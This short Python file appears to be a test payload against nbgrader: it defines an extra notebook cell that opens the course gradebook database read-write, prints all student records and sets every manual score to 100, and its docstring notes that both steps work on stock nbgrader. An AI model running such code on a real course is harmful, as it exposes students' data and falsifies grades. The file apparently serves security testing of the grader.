"""Opens the gradebook, reads all marks and gives itself full ones. Stock nbgrader: both work."""

CELLS = {
    "extra first cell": """
import sqlite3

try:
    book = sqlite3.connect("file:@COURSE@/grading/gradebook.db?mode=rw", uri=True)
    print(book.execute("select * from student").fetchall())
    book.execute("update grade set manual_score = 100")
    book.commit()
except sqlite3.Error as error:
    print(error)
"""
}
